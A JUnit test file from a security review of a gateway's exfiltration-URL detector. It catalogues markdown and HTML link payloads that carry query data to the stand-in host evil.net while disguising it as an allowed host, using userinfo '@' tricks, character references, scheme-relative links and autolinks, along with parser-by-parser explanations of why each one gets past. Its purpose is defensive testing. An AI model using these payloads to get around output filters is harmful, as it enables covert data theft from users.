package dev.tollgate.policy.detect;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Review 10 (0bda17c): inputs where the exfiltration_urls detector's reading of a link differs from a real reader's.
 * Readers used (all on this machine, in /tmp/rv10 with {@code npm i markdown-it linkify-it parse5 cmark-gfm}):
 * <ul>
 *   <li>WHATWG: {@code node -e 'console.log(new URL(s).host)'} (Node 20.20.2)</li>
 *   <li>Python: {@code python3 -c 'from urllib.parse import urlsplit; print(urlsplit(s).hostname)'} (3.11.7)</li>
 *   <li>curl 7.88.1: {@code curl -sv URL} ("Could not resolve host: ...")</li>
 *   <li>markdown-it 14 with linkify (linkify-it 5): {@code require('markdown-it')({linkify:true}).render(s)}</li>
 *   <li>cmark-gfm 0.9.0 (GitHub): {@code require('cmark-gfm').renderHtmlSync(s,{unsafe:true,extensions:{autolink:true}})}</li>
 *   <li>HTML: {@code parse5.parse(s)} attribute value (character references decoded), then {@code new URL(v, base).host}</li>
 * </ul>
 * Bypass tests expect a finding (fail on 0bda17c); false-positive tests expect none (fail on 0bda17c).
 */
class LinkReaderDifferentialReviewTest {

    private static final List<String> ALLOWED = List.of("docs.example.com");

    private static List<Finding> scan(String text, List<String> allowed) {
        return DocumentScan.scan(TextNode.valueOf(text), List.of(Detectors.exfiltrationUrls(allowed)));
    }

    /**
     * HIGH. The URL regex {@code [^\s<>"'`)\]]+} stops at a character the real reader keeps inside the URL; the cut
     * text ends in the allowed host, so the gateway reads docs.example.com. Every reader below reads the whole text and
     * takes the host after the last '@': evil.net (the part before it is userinfo, percent-encoded). Checked:
     * markdown-it and cmark-gfm render {@code ![a](https://docs.example.com"@evil.net/x?d=1)} as
     * {@code src="https://docs.example.com%22@evil.net/x?d=1"} (host evil.net), same for ` ] > ' (markdown
     * destinations may hold them); cmark-gfm autolinks the plain text {@code https://docs.example.com"@evil.net/...}
     * and {@code ...`@evil.net} to evil.net; parse5 gives the attribute values with the space / the double quote, and
     * {@code new URL("https://docs.example.com @evil.net/x").host} is evil.net (username docs.example.com%20);
     * Python {@code urlsplit("https://docs.example.com'@evil.net/x").hostname} is evil.net; curl says "Could not
     * resolve host: evil.net". Balanced parentheses are one destination in CommonMark:
     * {@code [a](https://(@docs.example.com)@evil.net/x)} renders href {@code https://(@docs.example.com)@evil.net/x},
     * WHATWG host evil.net (username (%40docs.example.com)), while the regex stops at ')' and lastIndexOf('@') gives
     * docs.example.com. Note: Chrome blocks subresources (images) with credentials, so the image form leaks through
     * Firefox/server-side fetchers; a clicked link or a fetching agent (Python/curl) goes to evil.net everywhere.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "![a](https://docs.example.com\"@evil.net/x?d=1)",
            "![a](https://docs.example.com`@evil.net/x?d=1)",
            "![a](https://docs.example.com]@evil.net/x?d=1)",
            "![a](https://docs.example.com>@evil.net/x?d=1)",
            "![a](https://docs.example.com'@evil.net/x?d=1)",
            "see <https://docs.example.com'@evil.net/x?d=1>",          // CommonMark autolink
            "see <https://docs.example.com\"@evil.net/x?d=1>",
            "see https://docs.example.com\"@evil.net/x?d=1",           // cmark-gfm autolink -> evil.net
            "see https://docs.example.com`@evil.net/x?d=1",            // cmark-gfm autolink -> evil.net
            "see https://docs.example.com'@evil.net/x?d=1",            // cmark-gfm, Python, curl, WHATWG -> evil.net
            "<a href=\"https://docs.example.com @evil.net/x?d=1\">a</a>",
            "<a href='https://docs.example.com\"@evil.net/x?d=1'>a</a>",
            "[a](<https://docs.example.com @evil.net/x?d=1>)",           // pointy destination may hold spaces
            "[a](https://(@docs.example.com)@evil.net/x?d=1)",          // balanced parentheses
    })
    void aLinkCutBeforeItsUserinfoEndsIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * HIGH (wildcard allow lists). With {@code *.example.com} allowed the cut text only has to end in .example.com:
     * {@code [a](https://x(docs.example.com)@evil.net/x)} -> markdown-it/cmark-gfm href host evil.net (WHATWG username
     * x(docs.example.com)); the regex stops at ')' and reads host x(docs.example.com), which ends in .example.com.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "[a](https://x(docs.example.com)@evil.net/x?d=1)",
            "![a](https://x.docs.example.com'@evil.net/x?d=1)",
    })
    void aLinkCutBeforeItsUserinfoEndsIsFoundUnderAWildcard(String text) {
        assertThat(scan(text, List.of("*.example.com"))).as(text).isNotEmpty();
    }

    /**
     * MEDIUM. Same cut, no userinfo: WHATWG allows ' ` ( ) in a host, so
     * {@code new URL("https://docs.example.com'.evil.net/x").host} is {@code docs.example.com'.evil.net} (also with `
     * and ')': parse5 attribute, then new URL -> docs.example.com).evil.net), a name under evil.net (a wildcard DNS record for *.evil.net covers it); markdown-it and cmark-gfm
     * render {@code [a](https://docs.example.com'.evil.net/x)} with exactly that host, parse5 gives the attribute as
     * written. The gateway reads docs.example.com. (curl rejects these as malformed; whether a browser's resolver
     * sends such a label is unverified here.) No credentials, so Chrome would not block it as an image.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "[a](https://docs.example.com'.evil.net/x?d=1)",
            "![a](https://docs.example.com'.evil.net/x?d=1)",
            "<a href=\"https://docs.example.com'.evil.net/x?d=1\">a</a>",
            "<a href=\"https://docs.example.com`.evil.net/x?d=1\">a</a>",
            "<a href=\"https://docs.example.com).evil.net/x?d=1\">a</a>",
    })
    void aLinkCutInsideItsHostIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * HIGH. Character references are decoded before the URL is parsed, both in HTML attribute values and in markdown
     * link destinations (CommonMark). The gateway never decodes them. (a) The scheme separator hidden: {@code https&colon;//},
     * {@code https&#58;//}, {@code https:&sol;&sol;}, {@code https&#x3A//} (numeric reference without ';' in HTML)
     * have no "://" for the pre-filter/regex: no link at all. parse5 gives {@code https://evil.net/x?d=1}; markdown-it
     * and cmark-gfm render {@code ![a](https&colon;//evil.net/x?d=1)} as {@code src="https://evil.net/x?d=1"}.
     * (b) The authority end hidden: {@code https://evil.net&sol;@docs.example.com} -> gateway lastIndexOf('@') reads
     * docs.example.com; parse5/markdown-it/cmark-gfm give {@code https://evil.net/@docs.example.com}, host evil.net
     * (&quest; -> '?', &num; -> '#', &bsol; -> '\' likewise; numeric &#47; is caught only because its '#' ends the
     * gateway's authority).
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "<img src=\"https&colon;//evil.net/x?d=1\">",
            "<img src=\"https&#58;//evil.net/x?d=1\">",
            "<img src=\"https:&sol;&sol;evil.net/x?d=1\">",
            "<img src=\"https&#x3A//evil.net/x?d=1\">",
            "![a](https&colon;//evil.net/x?d=1)",
            "![a](https:&sol;&sol;evil.net/x?d=1)",
            "![a](https&#58;//evil.net/x?d=1)",
            "<a href=\"https://evil.net&sol;@docs.example.com\">a</a>",
            "<a href=\"https://evil.net&quest;@docs.example.com\">a</a>",
            "<a href=\"https://evil.net&num;@docs.example.com/\">a</a>",
            "<a href=\"https://evil.net&bsol;@docs.example.com/\">a</a>",
            "[a](https://evil.net&sol;@docs.example.com)",
    })
    void aLinkBehindCharacterReferencesIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * HIGH. Scheme-relative and backslash-relative references: no "://", no finding. Rendered in a web page they take
     * the page's scheme and go to evil.net: markdown-it and cmark-gfm render {@code ![a](//evil.net/x?d=1)} and the
     * reference-definition form as {@code <img src="//evil.net/x?d=1">}; {@code new URL("//evil.net/x", "https://app.example.org/").host},
     * {@code new URL("\\\\evil.net/x", base).host} and {@code new URL("/\\evil.net/x", base).host} are all evil.net
     * (backslash is a slash for special schemes; cmark-gfm passes raw HTML through).
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "![a](//evil.net/x?d=1)",
            "[a]: //evil.net/x?d=1\n\n![x][a]",
            "<img src=\"//evil.net/x?d=1\">",
            "<img src=//evil.net/x?d=1>",
            "<img src=\"\\\\evil.net/x?d=1\">",
            "<img src=\"/\\evil.net/x?d=1\">",
    })
    void aSchemeRelativeLinkIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * MEDIUM. GFM extended autolinks: cmark-gfm renders {@code see www.evil.net/x?d=1} as
     * {@code <a href="http://www.evil.net/x?d=1">} (no scheme in the text, so the gateway never sees a link). And
     * cmark-gfm autolinks a scheme glued after digits or non-ASCII letters (its look-back only refuses ASCII
     * letters): {@code see 1https://evil.net/x?d=1} and {@code 2024https://...} render {@code href="https://evil.net/x?d=1"};
     * the regex's {@code \b} has no boundary between a digit and 'h' (the known underscore case is the same hole, digits
     * are not covered by it). (Non-ASCII letters glued, éhttps, дhttps, are found today.)
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "see www.evil.net/x?d=1",
            "see 1https://evil.net/x?d=1",
            "see 2024https://evil.net/x?d=1",
    })
    void aGfmAutolinkIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * MEDIUM. linkify-it (markdown-it linkify) does not read userinfo in a link: it ends the link at '@' (or at the
     * ':' before a password). {@code require('markdown-it')({linkify:true}).render("see https://evil.net@docs.example.com/x?d=1 ok")}
     * gives {@code <a href="https://evil.net">https://evil.net</a>@docs.example.com/x?d=1}; the gateway takes the host
     * after the last '@': docs.example.com. (WHATWG/Python/cmark-gfm go to docs.example.com; a chat UI on markdown-it
     * shows a clickable link to evil.net.) The query string is lost, so mostly a phishing/redirect link.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "see https://evil.net@docs.example.com/x?d=1 ok",
            "see https://evil.net:pw@docs.example.com/x?d=1 ok",
    })
    void aLinkLinkifyEndsAtItsUserinfoIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * FALSE POSITIVE (common prose). Trailing ASCII punctuation after a link to the allowed host: markdown-it linkify and
     * cmark-gfm both end the link before it and link https://docs.example.com (checked with both renderers); only a
     * single trailing '.' is handled today, so "see https://docs.example.com, then" is a finding. Expected: none.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "see https://docs.example.com, then the guide",
            "see https://docs.example.com; then the guide",
            "see https://docs.example.com!",
            "see https://docs.example.com..",
            "see https://docs.example.com.. Next",
            "see *https://docs.example.com* now",                      // markdown emphasis around the link
            "see https://docs.example.com/guide, then the API",       // GUARD: passes today (path before the comma), keep
    })
    void trailingAsciiPunctuationAfterAnAllowedLinkIsNoFinding(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isEmpty();
    }

    /**
     * FALSE POSITIVE (low-medium). Non-ASCII punctuation glued after the allowed host: markdown-it/linkify-it ends the
     * link at Unicode punctuation and links https://docs.example.com for each of these. (cmark-gfm keeps them in the
     * link, giving a punycode host such as docs.example.xn--com-6y3btyv92z, which is no other party's host either.)
     * The already-handled cases '。' and '（…）' pass today; these do not. Expected: none.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "詳細は https://docs.example.com、次へ",
            "「https://docs.example.com」を参照",
            "参照 https://docs.example.com，次",
            "参照 https://docs.example.com！",
            "voir «https://docs.example.com»",
            "siehe „https://docs.example.com“",
            "see https://docs.example.com… and more",
            "see https://docs.example.com—the guide",
            "انظر https://docs.example.com؟",
            "देखें https://docs.example.com।",
            "see https://docs.example.com[1]",                       // footnote mark
    })
    void nonAsciiPunctuationAfterAnAllowedLinkIsNoFinding(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isEmpty();
    }

    /**
     * GUARD (passes on 0bda17c; keep while fixing the known "backslash ends the authority" finding). In a markdown
     * destination a backslash escapes the next punctuation character and is removed, so markdown-it and cmark-gfm render
     * {@code ![a](https://docs.example.com\@evil.net/x?d=1)} as {@code src="https://docs.example.com@evil.net/x?d=1"}
     * (host evil.net); likewise {@code \)} and {@code \]}. cmark-gfm autolinks the plain text
     * {@code https://docs.example.com\@evil.net/x} as {@code https://docs.example.com%5C@evil.net/x} (host evil.net),
     * while WHATWG on the raw text ({@code new URL("https://docs.example.com\\@evil.net/x").host}) gives
     * docs.example.com. Today the gateway flags these (host "evil.net" or "docs.example.com\"); a fix that only ends
     * the authority at '\' would read docs.example.com and miss them. Both readings must be checked.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "![a](https://docs.example.com\\@evil.net/x?d=1)",
            "[a](https://docs.example.com\\)@evil.net/x?d=1)",
            "[a](https://docs.example.com\\]@evil.net/x?d=1)",
            "see https://docs.example.com\\@evil.net/x?d=1",
    })
    void guard_aMarkdownBackslashEscapeBeforeTheUserinfoEndIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }
}
